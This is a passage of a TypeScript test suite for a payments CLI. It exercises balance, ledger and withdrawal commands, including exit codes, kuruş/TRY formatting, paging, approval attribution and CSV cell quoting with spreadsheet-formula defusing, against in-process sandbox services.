import { createServiceClient, eventuallyValue, testMerchantUser, testMerchantVoice, turkishIban } from "@payments/testing";
// The CLI has no runtime dependency on the services; the tests start the real ones, which @payments/testing gives them.
import { startInProcess } from "@payments/testing/services";
import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import test from "ava";
import { create } from "@bufbuild/protobuf";
import { MerchantService } from "@payments/contracts/merchant";
import { PayoutService, WithdrawalSchema, WithdrawalStatus, type Withdrawal } from "@payments/contracts/payout";
import { type RunningServices } from "@payments/kit";
import { resolveEndpoints } from "../src/clients.js";
import { parse as parseCsv } from "csv-parse/sync";
import { CSV_BOM } from "@payments/records";
import { bankPaymentCsv, csvCell, kurusToLira } from "../src/commands/withdrawal.js";
import { xlsxLayout, xlsxPart, xlsxRows } from "../../../test/xlsx-file.js";
import { cli, closedPort, singleJson } from "./capture.js";

// The balance and withdrawal commands in-process against the real merchant, bank-catalog,
// deposit and payout services, all-in-one on SQLite in a temporary directory, with the
// sandbox bank connector answering after 10 ms. Balances are funded and withdrawals created
// with the PayoutService client (as an operator and the gateway would); the CLI then acts as
// the operator. Each test uses its own merchant, so the tests can run concurrently.

/** The sandbox bank leaves a withdrawal to this IBAN processing until an operator decides it. */
const STAYS_PROCESSING_IBAN = "TR830006200000000000000003";

interface BalanceJson {
  currency: string;
  available: number;
  held: number;
}

interface EntryJson {
  id: string;
  merchantId: string;
  currency: string;
  kind: string;
  availableDelta: number;
  heldDelta: number;
  transactionId: string;
  reason: string;
  createdAt: string;
}

interface WithdrawalJson {
  id: string;
  merchantId: string;
  processId: string;
  amount: number;
  currency: string;
  status: string;
  iban: string;
  accountName: string;
  failureReason: string;
  sequence: number;
  completedAt?: string;
  awaitingOperator: boolean;
  bankReference: string;
  sandbox: boolean;
}

let running: RunningServices | undefined;
let dataDir: string;
let url: string;
let merchants: ReturnType<typeof createServiceClient<typeof MerchantService>>;
let payouts: ReturnType<typeof createServiceClient<typeof PayoutService>>;
let counter = 0;

test.before(async () => {
  dataDir = await mkdtemp(join(tmpdir(), "cli-payout-test-"));
  running = await startInProcess(["merchant", "bank-catalog", "deposit", "payout"], {
    env: {
      DATA_DIR: dataDir,
      MASTER_KEY: "ab".repeat(32),
      LOG_LEVEL: "warn",
      SANDBOX_PAYOUT_DELAY: "10ms",
      PAYOUT_WORKER_INTERVAL: "50ms",
      SHUTDOWN_GRACE: "1s",
    },
    receivingAccounts: true,
  });
  url = running.server.url;
  merchants = createServiceClient(MerchantService, url);
  payouts = createServiceClient(PayoutService, url);
});

test.after.always(async () => {
  await running?.stop();
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

async function newMerchant(name: string): Promise<string> {
  return (await merchants.createMerchant({ name, sandbox: true })).merchant!.id;
}

/** Puts money in a merchant's available balance, as an operator would. */
async function fund(merchantId: string, amount: bigint): Promise<void> {
  await payouts.adjustBalance({ merchantId, amount, reason: "test funding" });
}

/** A withdrawal as the gateway would create it: its amount moves from available to held. */
async function createWithdrawal(merchantId: string, amount: bigint, iban = STAYS_PROCESSING_IBAN): Promise<Withdrawal> {
  const n = ++counter;
  const res = await payouts.createWithdrawal({
    merchantId,
    processId: `payout-${n}`,
    amount,
    accountName: "Ayşe Yılmaz",
    iban,
    userId: `user-${n}`,
    userName: `ayse${n}`,
    name: "Ayşe Yılmaz",
  });
  return res.withdrawal!;
}

/** Waits until the payout worker and the sandbox bank have brought the withdrawal to `status`. */
async function waitForStatus(id: string, status: WithdrawalStatus): Promise<Withdrawal> {
  return eventuallyValue(
    async () => (await payouts.getWithdrawal({ allMerchants: true, key: { case: "withdrawalId", value: id } })).withdrawal!,
    (current) => current.status === status,
    (current) => `withdrawal ${id} to be ${WithdrawalStatus[status]} (it is ${WithdrawalStatus[current.status]})`,
    15_000,
  );
}

/** A withdrawal the sandbox bank left processing, for an operator to decide. */
async function processingWithdrawal(merchantId: string, amount: bigint): Promise<Withdrawal> {
  const created = await createWithdrawal(merchantId, amount, STAYS_PROCESSING_IBAN);
  return waitForStatus(created.id, WithdrawalStatus.PROCESSING);
}

async function payoutCli(args: readonly string[]) {
  return cli([...args, "--grpc-url", url]);
}

async function balancesJson(merchantId: string): Promise<BalanceJson[]> {
  const r = await payoutCli(["balance", "show", "--merchant", merchantId, "--json"]);
  if (r.code !== 0) throw new Error(r.stderr);
  return (singleJson(r.stdout) as { balances: BalanceJson[] }).balances;
}

async function tryBalance(merchantId: string): Promise<BalanceJson | undefined> {
  return (await balancesJson(merchantId)).find((b) => b.currency === "TRY");
}

async function ledgerJson(merchantId: string, ...args: string[]): Promise<{ entries: EntryJson[]; nextCursor: string }> {
  const r = await payoutCli(["balance", "ledger", "--merchant", merchantId, ...args, "--json"]);
  if (r.code !== 0) throw new Error(r.stderr);
  return singleJson(r.stdout) as { entries: EntryJson[]; nextCursor: string };
}

async function showJson(id: string): Promise<WithdrawalJson> {
  const r = await payoutCli(["withdrawal", "show", id, "--json"]);
  if (r.code !== 0) throw new Error(r.stderr);
  return (singleJson(r.stdout) as { withdrawal: WithdrawalJson }).withdrawal;
}

test("resolveEndpoints: --grpc-url > PAYOUT_SERVICE_URL > GRPC_URL > the default for the payout service", (t) => {
  t.is(resolveEndpoints({}, {}).payout, "http://127.0.0.1:9090");
  t.is(resolveEndpoints({}, { GRPC_URL: "http://shared:9090" }).payout, "http://shared:9090");
  const split = resolveEndpoints({}, { GRPC_URL: "http://shared:9090", PAYOUT_SERVICE_URL: "http://payout:9094/" });
  t.is(split.payout, "http://payout:9094");
  t.is(split.deposit, "http://shared:9090", "the other services keep GRPC_URL");
  t.is(resolveEndpoints({ grpcUrl: "http://flag:1" }, { PAYOUT_SERVICE_URL: "http://payout:9094" }).payout, "http://flag:1");
});

test("the balance and withdrawal commands call the service at PAYOUT_SERVICE_URL", async (t) => {
  const merchantId = await newMerchant("Split Shop");
  const env = { GRPC_URL: `http://127.0.0.1:${await closedPort()}`, PAYOUT_SERVICE_URL: url };
  const shown = await cli(["balance", "show", "--merchant", merchantId, "--json"], env);
  t.is(shown.code, 0, shown.stderr);
  t.deepEqual((singleJson(shown.stdout) as { balances: BalanceJson[] }).balances, [{ currency: "TRY", available: 0, held: 0 }]);
  const listed = await cli(["withdrawal", "list", "--merchant", merchantId, "--json"], env);
  t.is(listed.code, 0, listed.stderr);
  t.deepEqual(singleJson(listed.stdout), { withdrawals: [], nextCursor: "" });
});

test("balance adjust adds a positive amount, then takes out a negative one given as --amount -500 or --amount=-500", async (t) => {
  const merchantId = await newMerchant("Adjust Shop");

  const added = await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "20000", "--reason", "opening balance", "--json"]);
  t.is(added.code, 0, added.stderr);
  t.is(added.stderr, "");
  const first = singleJson(added.stdout) as { balance: BalanceJson; entry: EntryJson };
  t.deepEqual(first.balance, { currency: "TRY", available: 20000, held: 0 });
  t.like(first.entry, { merchantId, currency: "TRY", kind: "adjustment", availableDelta: 20000, heldDelta: 0, reason: "opening balance" });

  const spaced = await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "-500", "--reason", "bank fee", "--json"]);
  t.is(spaced.code, 0, spaced.stderr);
  const second = singleJson(spaced.stdout) as { balance: BalanceJson; entry: EntryJson };
  t.deepEqual(second.balance, { currency: "TRY", available: 19500, held: 0 });
  t.like(second.entry, { kind: "adjustment", availableDelta: -500, heldDelta: 0, reason: "bank fee" });

  const joined = await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount=-1500", "--currency", "try", "--reason", "chargeback"]);
  t.is(joined.code, 0, joined.stderr);
  t.regex(
    joined.stdout,
    new RegExp(`^Adjusted merchant ${merchantId}'s TRY balance by -1500 kuruş \\(-15\\.00 TRY\\): available is now 18000 kuruş \\(180\\.00 TRY\\), held 0 kuruş \\(0\\.00 TRY\\)\\.`),
  );
  t.regex(joined.stdout, /kind\s+adjustment/);
  t.regex(joined.stdout, /available change\s+-1500 kuruş \(-15\.00 TRY\)/);
  t.regex(joined.stdout, /reason\s+chargeback/);

  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 18000, held: 0 });
});

test("balance adjust taking out more than is available fails with INSUFFICIENT_BALANCE, exits 1 and changes nothing", async (t) => {
  const merchantId = await newMerchant("Short Shop");
  await fund(merchantId, 1000n);
  const balanceBefore = await balancesJson(merchantId);
  const ledgerBefore = await ledgerJson(merchantId);

  for (const args of [["--amount", "-1001"], ["--amount=-1001"]]) {
    const r = await payoutCli(["balance", "adjust", "--merchant", merchantId, ...args, "--reason", "too much", "--json"]);
    t.is(r.code, 1, args.join(" "));
    t.is(r.stdout, "");
    t.regex(r.stderr, /^error: INSUFFICIENT_BALANCE: /);
    t.is(r.stderr.split("\n").length, 2, "one line on stderr");
  }
  t.deepEqual(await balancesJson(merchantId), balanceBefore);
  t.deepEqual(await ledgerJson(merchantId), ledgerBefore);

  // Held money is not available: with 1000 available of which 600 are held by a withdrawal, -401 is too much.
  await processingWithdrawal(merchantId, 600n);
  const held = await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "-401", "--reason", "too much"]);
  t.is(held.code, 1);
  t.regex(held.stderr, /^error: INSUFFICIENT_BALANCE: /);
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 400, held: 600 });
});

test("bad --amount (0, -0, 1.5, -1.5, abc, +5, 1e3, above 2^53-1) is refused by balance adjust with exit 2 before any call", async (t) => {
  const merchantId = await newMerchant("Bad Amount Shop");
  await fund(merchantId, 5000n);
  const before = await ledgerJson(merchantId);
  const nowhere = `http://127.0.0.1:${await closedPort()}`;
  for (const bad of ["0", "-0", "1.5", "-1.5", "abc", "+5", "1e3", "9007199254740992", ""]) {
    for (const grpcUrl of [nowhere, url]) {
      for (const form of [["--amount", bad], [`--amount=${bad}`]]) {
        const r = await cli(["balance", "adjust", "--merchant", merchantId, ...form, "--reason", "bad", "--grpc-url", grpcUrl]);
        t.is(r.code, 2, form.join(" "));
        t.is(r.stdout, "");
        t.regex(r.stderr, /--amount/);
        t.notRegex(r.stderr, /cannot reach/);
      }
    }
  }
  // --amount with nothing after it, and a missing --reason, are usage errors too.
  t.is((await payoutCli(["balance", "adjust", "--merchant", merchantId, "--reason", "x", "--amount"])).code, 2);
  t.is((await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "100"])).code, 2);
  t.is((await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "100", "--reason", "  "])).code, 2);
  t.deepEqual(await ledgerJson(merchantId), before, "nothing was posted");
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 5000, held: 0 });
});

test("balance show prints available and held per currency in kuruş and TRY; a merchant without entries has TRY zeros", async (t) => {
  const merchantId = await newMerchant("Show Shop");
  await fund(merchantId, 20000n);
  await processingWithdrawal(merchantId, 15050n);

  const r = await payoutCli(["balance", "show", "--merchant", merchantId, "--json"]);
  t.is(r.code, 0, r.stderr);
  t.deepEqual(singleJson(r.stdout), { balances: [{ currency: "TRY", available: 4950, held: 15050 }] });

  const human = await payoutCli(["balance", "show", "--merchant", merchantId]);
  t.is(human.code, 0, human.stderr);
  t.is(human.stdout.split("\n")[0], `Balances of merchant ${merchantId}:`);
  t.regex(human.stdout, /CURRENCY\s+AVAILABLE\s+HELD/);
  t.regex(human.stdout, /TRY\s+4950 kuruş \(49\.50 TRY\)\s+15050 kuruş \(150\.50 TRY\)/);

  const fresh = await newMerchant("Empty Shop");
  t.deepEqual(await balancesJson(fresh), [{ currency: "TRY", available: 0, held: 0 }]);
});

test("balance ledger lists the entries newest first with kind and signed changes, filters by currency and pages with --cursor", async (t) => {
  const merchantId = await newMerchant("Ledger Shop");
  await fund(merchantId, 10000n);
  await payoutCli(["balance", "adjust", "--merchant", merchantId, "--amount", "-250", "--reason", "fee"]);
  const withdrawal = await processingWithdrawal(merchantId, 3000n);

  const all = await ledgerJson(merchantId);
  t.is(all.nextCursor, "");
  t.deepEqual(
    all.entries.map((e) => [e.kind, e.availableDelta, e.heldDelta, e.reason]),
    [
      ["withdrawal_hold", -3000, 3000, ""],
      ["adjustment", -250, 0, "fee"],
      ["adjustment", 10000, 0, "test funding"],
    ],
  );
  t.is(all.entries[0]?.transactionId, withdrawal.id);
  t.true(all.entries.every((e) => e.merchantId === merchantId && e.currency === "TRY" && /^\d{4}-\d\d-\d\dT/.test(e.createdAt)));

  t.deepEqual((await ledgerJson(merchantId, "--currency", "try")).entries, all.entries);

  const page1 = await ledgerJson(merchantId, "--limit", "2");
  t.is(page1.entries.length, 2);
  t.not(page1.nextCursor, "");
  const page2 = await ledgerJson(merchantId, "--limit", "2", "--cursor", page1.nextCursor);
  t.is(page2.nextCursor, "");
  t.deepEqual([...page1.entries, ...page2.entries], all.entries);

  const human = await payoutCli(["balance", "ledger", "--merchant", merchantId, "--limit", "2"]);
  t.is(human.code, 0, human.stderr);
  t.regex(human.stdout, /^ID\s+CREATED\s+KIND\s+AVAILABLE CHANGE\s+HELD CHANGE\s+TRANSACTION\s+REASON/);
  t.regex(human.stdout, new RegExp(`withdrawal_hold\\s+-3000 kuruş \\(-30\\.00 TRY\\)\\s+\\+3000 kuruş \\(\\+30\\.00 TRY\\)\\s+${withdrawal.id}`));
  t.regex(human.stdout, /adjustment\s+-250 kuruş \(-2\.50 TRY\)\s+0 kuruş \(0\.00 TRY\)\s+\S+\s+fee/);
  t.regex(human.stdout, /More entries: add --cursor \S+/);

  const empty = await payoutCli(["balance", "ledger", "--merchant", await newMerchant("No Ledger Shop")]);
  t.is(empty.stdout, "No ledger entries.\n");
});

test("withdrawal complete moves a withdrawal the sandbox bank left processing to completed and pays out the held amount", async (t) => {
  const merchantId = await newMerchant("Complete Shop");
  await fund(merchantId, 50000n);
  const processing = await processingWithdrawal(merchantId, 15050n);
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 34950, held: 15050 });

  const r = await payoutCli(["withdrawal", "complete", processing.id, "--bank-reference", " EFT-2026-0001 ", "--json"]);
  t.is(r.code, 0, r.stderr);
  t.is(r.stderr, "");
  const { withdrawal } = singleJson(r.stdout) as { withdrawal: WithdrawalJson };
  t.like(withdrawal, { id: processing.id, merchantId, status: "WITHDRAWAL_STATUS_COMPLETED", amount: 15050, currency: "TRY", iban: STAYS_PROCESSING_IBAN, failureReason: "", bankReference: "EFT-2026-0001", awaitingOperator: false });
  t.truthy(withdrawal.completedAt);
  t.is((await showJson(processing.id)).status, "WITHDRAWAL_STATUS_COMPLETED");
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 34950, held: 0 }, "the held amount left the balance");
  t.like((await ledgerJson(merchantId)).entries[0], { kind: "withdrawal_settle", availableDelta: 0, heldDelta: -15050, transactionId: processing.id });

  const other = await processingWithdrawal(merchantId, 2500n);
  const human = await payoutCli(["withdrawal", "complete", other.id, "--bank-reference", "EFT-2026-0002"]);
  t.is(human.code, 0, human.stderr);
  t.regex(human.stdout, new RegExp(`^Withdrawal ${other.id} completed: completed, 2500 kuruş \\(25\\.00 TRY\\) paid out to ${STAYS_PROCESSING_IBAN} \\(bank reference EFT-2026-0002\\)\\.`));
  t.regex(human.stdout, /bank reference\s+EFT-2026-0002/);
  t.regex(human.stdout, /final since\s+\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/);
});

test("withdrawal complete of a completed withdrawal fails with INVALID_TRANSACTION_STATE, exits 1 and changes nothing", async (t) => {
  const merchantId = await newMerchant("Twice Shop");
  await fund(merchantId, 10000n);
  const processing = await processingWithdrawal(merchantId, 4000n);
  t.is((await payoutCli(["withdrawal", "complete", processing.id, "--bank-reference", "EFT-1"])).code, 0);
  const before = await showJson(processing.id);
  const balanceBefore = await balancesJson(merchantId);

  for (const args of [["complete", "--bank-reference", "EFT-2"], ["fail", "--reason", "ACCOUNT_CLOSED"]]) {
    const [verb = "", ...rest] = args;
    const again = await payoutCli(["withdrawal", verb, processing.id, ...rest, "--json"]);
    t.is(again.code, 1, verb);
    t.is(again.stdout, "");
    t.regex(again.stderr, /^error: INVALID_TRANSACTION_STATE: /);
  }
  t.deepEqual(await showJson(processing.id), before);
  t.deepEqual(await balancesJson(merchantId), balanceBefore);
});

test("withdrawal fail --reason ACCOUNT_CLOSED moves a processing withdrawal to failed with that reason and returns the held amount to available", async (t) => {
  const merchantId = await newMerchant("Fail Shop");
  await fund(merchantId, 30000n);
  const processing = await processingWithdrawal(merchantId, 12345n);
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 17655, held: 12345 });

  const r = await payoutCli(["withdrawal", "fail", processing.id, "--reason", "ACCOUNT_CLOSED", "--json"]);
  t.is(r.code, 0, r.stderr);
  const { withdrawal } = singleJson(r.stdout) as { withdrawal: WithdrawalJson };
  t.like(withdrawal, { id: processing.id, status: "WITHDRAWAL_STATUS_FAILED", failureReason: "ACCOUNT_CLOSED", amount: 12345 });
  t.truthy(withdrawal.completedAt);

  const shown = await payoutCli(["balance", "show", "--merchant", merchantId]);
  t.regex(shown.stdout, /TRY\s+30000 kuruş \(300\.00 TRY\)\s+0 kuruş \(0\.00 TRY\)/, "the held amount is available again");
  t.like((await ledgerJson(merchantId)).entries[0], { kind: "withdrawal_release", availableDelta: 12345, heldDelta: -12345, transactionId: processing.id });

  const human = await payoutCli(["withdrawal", "show", processing.id]);
  t.is(human.code, 0, human.stderr);
  t.regex(human.stdout, /status\s+failed/);
  t.regex(human.stdout, /failure reason\s+ACCOUNT_CLOSED/);

  const other = await processingWithdrawal(merchantId, 1000n);
  const failed = await payoutCli(["withdrawal", "fail", other.id, "--reason", "NAME_MISMATCH"]);
  t.is(failed.code, 0, failed.stderr);
  t.regex(
    failed.stdout,
    new RegExp(`^Withdrawal ${other.id} failed \\(reason: NAME_MISMATCH\\); the held 1000 kuruş \\(10\\.00 TRY\\) returned to the merchant's available balance\\.`),
  );
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 30000, held: 0 });
});

test("withdrawal fail without --reason (or with an empty one) is a usage error (exit 2) and leaves the withdrawal processing", async (t) => {
  const merchantId = await newMerchant("No Reason Shop");
  await fund(merchantId, 10000n);
  const processing = await processingWithdrawal(merchantId, 1000n);
  for (const args of [[], ["--reason", ""], ["--reason", "   "], ["--reason"]]) {
    const r = await payoutCli(["withdrawal", "fail", processing.id, ...args]);
    t.is(r.code, 2, args.join(" "));
    t.is(r.stdout, "");
    t.regex(r.stderr, /--reason/);
  }
  const nowhere = await cli(["withdrawal", "fail", processing.id, "--grpc-url", `http://127.0.0.1:${await closedPort()}`]);
  t.is(nowhere.code, 2);
  t.notRegex(nowhere.stderr, /cannot reach/);
  t.like(await showJson(processing.id), { status: "WITHDRAWAL_STATUS_PROCESSING", sequence: Number(processing.sequence) });
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 9000, held: 1000 });
});

test("withdrawal fail --reason takes a code: text is refused (exit 2) naming the accepted codes, nothing changes; lower case is the code upper-cased; --help lists them", async (t) => {
  const merchantId = await newMerchant("Reason Code Shop");
  await fund(merchantId, 10000n);
  const processing = await processingWithdrawal(merchantId, 1000n);
  for (const [reason, suggestion] of [
    ["account closed", / \(did you mean ACCOUNT_CLOSED\?\)/],
    ["name-mismatch", / \(did you mean NAME_MISMATCH\?\)/],
    ["closed (by the bank)", /It is not a code\. /],
    ["X".repeat(101), /It is 101 characters long\. /],
  ] as const) {
    const r = await payoutCli(["withdrawal", "fail", processing.id, "--reason", reason]);
    t.is(r.code, 2, reason);
    t.is(r.stdout, "");
    t.regex(r.stderr, suggestion, reason);
    t.regex(r.stderr, /A failure reason is one of ACCOUNT_NOT_FOUND, NAME_MISMATCH, ACCOUNT_CLOSED, or another code of letters, digits and underscores \(up to 100\)/, reason);
  }
  t.like(await showJson(processing.id), { status: "WITHDRAWAL_STATUS_PROCESSING", sequence: Number(processing.sequence) });
  t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 9000, held: 1000 });

  // A bank's own code in lower case is that code.
  const failed = await payoutCli(["withdrawal", "fail", processing.id, "--reason", " iban_blocked ", "--json"]);
  t.is(failed.code, 0, failed.stderr);
  t.like((singleJson(failed.stdout) as { withdrawal: WithdrawalJson }).withdrawal, { status: "WITHDRAWAL_STATUS_FAILED", failureReason: "IBAN_BLOCKED" });

  const help = await cli(["withdrawal", "fail", "--help"]);
  t.is(help.code, 0);
  t.regex(help.stdout, /--reason <code>\s+the failure code the merchant's failureReason carries:\s+ACCOUNT_NOT_FOUND, NAME_MISMATCH,\s+ACCOUNT_CLOSED, or the\s+bank's own code/);
  for (const code of ["ACCOUNT_NOT_FOUND", "NAME_MISMATCH", "ACCOUNT_CLOSED"]) t.regex(help.stdout, new RegExp(`^  ${code} +\\S`, "m"), code);
});

test("withdrawal show prints ids, status, amount in kuruş and TRY, recipient, IBAN and ISO 8601 times; an unknown id exits 1 with TRANSACTION_NOT_FOUND", async (t) => {
  const merchantId = await newMerchant("Shown Shop");
  await fund(merchantId, 20000n);
  const processing = await processingWithdrawal(merchantId, 15050n);
  const r = await payoutCli(["withdrawal", "show", processing.id]);
  t.is(r.code, 0, r.stderr);
  t.regex(r.stdout, new RegExp(`id\\s+${processing.id}`));
  t.regex(r.stdout, new RegExp(`merchant\\s+${merchantId}`));
  t.regex(r.stdout, new RegExp(`process id\\s+${processing.processId}`));
  t.regex(r.stdout, /status\s+processing/);
  t.regex(r.stdout, /amount\s+15050 kuruş \(150\.50 TRY\)/);
  t.regex(r.stdout, /recipient\s+Ayşe Yılmaz/);
  t.regex(r.stdout, new RegExp(`IBAN\\s+${STAYS_PROCESSING_IBAN}`));
  t.regex(r.stdout, /created\s+\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/);
  t.notRegex(r.stdout, /failure reason/);

  const missing = await payoutCli(["withdrawal", "show", "wdr_doesnotexist"]);
  t.is(missing.code, 1);
  t.is(missing.stdout, "");
  t.regex(missing.stderr, /^error: TRANSACTION_NOT_FOUND: /);
});

test("withdrawal show says who asked and where the merchant's approval stands: an API key's withdrawal above the threshold awaits, then approved by whom; the list says it waits", async (t) => {
  const merchantId = await newMerchant("Attributed Shop");
  await fund(merchantId, 20000n);
  await createServiceClient(MerchantService, url, { operator: testMerchantUser(merchantId, "owner"), approver: null }).setWithdrawalApproval({ threshold: 1000n });
  const key = createServiceClient(PayoutService, url, { operator: null, merchant: testMerchantVoice(merchantId, { keyId: "pk_test_cli" }) });
  const { withdrawal } = await key.createWithdrawal({ merchantId, processId: "api-1", amount: 5000n, accountName: "Ayşe Yılmaz", iban: STAYS_PROCESSING_IBAN, userId: "u1", userName: "ayse", name: "Ayşe Yılmaz" });
  const waiting = await payoutCli(["withdrawal", "show", withdrawal!.id]);
  t.is(waiting.code, 0, waiting.stderr);
  t.regex(waiting.stdout, /status\s+pending\n/);
  t.regex(waiting.stdout, /merchant's approval\s+awaiting a second person of the merchant .* until \d{4}-\d\d-\d\dT/);
  t.regex(waiting.stdout, new RegExp(`created by\\s+API key pk_test_cli of ${merchantId} via spiffe://payments\\.local/gateway\n`));
  t.regex(waiting.stdout, /API key\s+pk_test_cli\n/);
  const listed = await payoutCli(["withdrawal", "list", "--merchant", merchantId]);
  t.regex(listed.stdout, /pending \(awaiting the merchant's approval\)/);

  await createServiceClient(PayoutService, url, { operator: testMerchantUser(merchantId, "finance", "fatma@shop.example"), approver: null }).approveWithdrawal({ withdrawalId: withdrawal!.id });
  const approved = await payoutCli(["withdrawal", "show", withdrawal!.id]);
  t.regex(approved.stdout, new RegExp(`merchant's approval\\s+approved by fatma@shop\\.example of ${merchantId} via spiffe://payments\\.local/console at \\d{4}-`));
  const json = await showJson(withdrawal!.id);
  t.like(json, { createdBy: `API key pk_test_cli of ${merchantId} via spiffe://payments.local/gateway`, apiKeyId: "pk_test_cli" });

  // A person's withdrawal names the person and the workload that carried them; no approval line.
  const byOperator = await payoutCli(["withdrawal", "show", (await createWithdrawal(merchantId, 500n)).id]);
  t.regex(byOperator.stdout, /created by\s+test-admin@example\.com via spiffe:\/\/payments\.local\/console\n/);
  t.notRegex(byOperator.stdout, /merchant's approval|API key/);
});

test("withdrawal list filters by merchant and status, newest first, and pages with --cursor", async (t) => {
  const merchantId = await newMerchant("List Shop");
  await fund(merchantId, 100000n);
  const first = await processingWithdrawal(merchantId, 1000n);
  const second = await processingWithdrawal(merchantId, 2000n);
  const third = await processingWithdrawal(merchantId, 3000n);
  t.is((await payoutCli(["withdrawal", "fail", second.id, "--reason", "ACCOUNT_CLOSED"])).code, 0);

  const processingPage = await payoutCli(["withdrawal", "list", "--merchant", merchantId, "--status", "processing", "--json"]);
  t.is(processingPage.code, 0, processingPage.stderr);
  const page = singleJson(processingPage.stdout) as { withdrawals: WithdrawalJson[]; nextCursor: string };
  t.deepEqual(page.withdrawals.map((w) => w.id), [third.id, first.id]);
  t.is(page.nextCursor, "");

  const list = async (...args: string[]) =>
    singleJson((await payoutCli(["withdrawal", "list", "--merchant", merchantId, ...args, "--json"])).stdout) as { withdrawals: WithdrawalJson[]; nextCursor: string };
  const page1 = await list("--limit", "2");
  t.is(page1.withdrawals.length, 2);
  t.not(page1.nextCursor, "");
  const page2 = await list("--limit", "2", "--cursor", page1.nextCursor);
  t.is(page2.nextCursor, "");
  t.deepEqual([...page1.withdrawals, ...page2.withdrawals].map((w) => w.id), [third.id, second.id, first.id]);
  t.deepEqual((await list("--status", "FAILED")).withdrawals.map((w) => [w.id, w.failureReason]), [[second.id, "ACCOUNT_CLOSED"]]);

  const human = await payoutCli(["withdrawal", "list", "--merchant", merchantId, "--limit", "2"]);
  t.is(human.code, 0, human.stderr);
  t.regex(human.stdout, /^ID\s+MERCHANT\s+KIND\s+PROCESS ID\s+STATUS\s+AMOUNT\s+IBAN\s+RECIPIENT\s+CREATED/);
  t.regex(human.stdout, new RegExp(`${second.id}\\s+${merchantId}\\s+sandbox\\s+${second.processId}\\s+failed \\(ACCOUNT_CLOSED\\)\\s+2000 kuruş \\(20\\.00 TRY\\)`));
  t.regex(human.stdout, new RegExp(`${third.id}\\s+${merchantId}\\s+sandbox\\s+${third.processId}\\s+processing \\(awaiting operator\\)\\s+3000 kuruş`));
  t.regex(human.stdout, /More withdrawals: add --cursor \S+/);

  const none = await payoutCli(["withdrawal", "list", "--merchant", merchantId, "--status", "cancelled"]);
  t.is(none.stdout, "No withdrawals.\n");
});

test("withdrawal list and balance ledger refuse a bad --status, --limit or --currency, and the balance commands a missing --merchant, before any call", async (t) => {
  const nowhere = `http://127.0.0.1:${await closedPort()}`;
  const bad = [
    ["withdrawal", "list", "--status", "paid"],
    ["withdrawal", "list", "--limit", "0"],
    ["withdrawal", "list", "--limit", "101"],
    ["withdrawal", "list", "--limit", "abc"],
    ["balance", "ledger", "--merchant", "m_x", "--limit", "501"],
    ["balance", "ledger", "--merchant", "m_x", "--limit", "0"],
    ["balance", "ledger", "--merchant", "m_x", "--currency", "TL"],
    ["balance", "adjust", "--merchant", "m_x", "--amount", "100", "--currency", "lira", "--reason", "x"],
    ["balance", "show"],
    ["balance", "ledger"],
    ["balance", "adjust", "--amount", "100", "--reason", "x"],
    ["withdrawal", "complete"],
    ["withdrawal", "complete", "wdr_x"],
    ["withdrawal", "complete", "wdr_x", "--bank-reference", "  "],
    ["withdrawal", "show"],
    ["withdrawal", "export"],
    ["withdrawal", "export", "--awaiting-operator", "--format", "xlsx"],
    ["withdrawal", "export", "--awaiting-operator", "--format", "xlsx", "--no-bom", "--out", "never-written.xlsx"],
    ["withdrawal", "export", "--awaiting-operator", "--format", "pdf"],
    ["withdrawal", "export", "--awaiting-operator", "--locale", "de"],
  ];
  for (const args of bad) {
    const r = await cli([...args, "--grpc-url", nowhere]);
    t.is(r.code, 2, args.join(" "));
    t.is(r.stdout, "");
    t.notRegex(r.stderr, /cannot reach/);
  }
});

// ---------------------------------------------------------------- live withdrawals: the operator's worklist and the bank's CSV

async function newLiveMerchant(name: string): Promise<string> {
  return (await merchants.createMerchant({ name, sandbox: false })).merchant!.id;
}

/** A live merchant's withdrawal, created as the gateway would; the manual connector leaves it to an operator. */
async function liveWithdrawal(merchantId: string, amount: bigint, accountName: string, iban: string): Promise<Withdrawal> {
  const n = ++counter;
  const { withdrawal } = await payouts.createWithdrawal({ merchantId, processId: `live-${n}`, amount, accountName, iban, userId: `user-${n}`, userName: `user${n}`, name: accountName });
  return eventuallyValue(
    async () => (await payouts.getWithdrawal({ merchantId, key: { case: "withdrawalId", value: withdrawal!.id } })).withdrawal!,
    (current) => current.awaitingOperator,
    (current) => `withdrawal ${current.id} to await an operator (it is ${WithdrawalStatus[current.status]})`,
    15_000,
  );
}

test("kurusToLira writes kuruş as lira with two decimals, exactly, up to 2^53-1", (t) => {
  t.is(kurusToLira(150050n), "1500.50");
  t.is(kurusToLira(0n), "0.00");
  t.is(kurusToLira(5n), "0.05");
  t.is(kurusToLira(100n), "1.00");
  t.is(kurusToLira(123456789n), "1234567.89");
  t.is(kurusToLira(9007199254740991n), "90071992547409.91");
  t.throws(() => kurusToLira(-1n));
});

test("csvCell quotes by RFC 4180 and defuses what a spreadsheet would run as a formula", (t) => {
  t.is(csvCell("Ayşe Yılmaz"), "Ayşe Yılmaz");
  t.is(csvCell("Yılmaz, Ayşe"), '"Yılmaz, Ayşe"');
  t.is(csvCell('Ayşe "Aşkım"'), '"Ayşe ""Aşkım"""');
  t.is(csvCell("a\r\nb"), '"a\r\nb"');
  for (const lead of ["=", "+", "-", "@", "\t"]) t.is(csvCell(`${lead}1+1`), `'${lead}1+1`, JSON.stringify(lead));
  t.is(csvCell("\r1+1"), `"'\r1+1"`, "defused, then quoted for its CR");
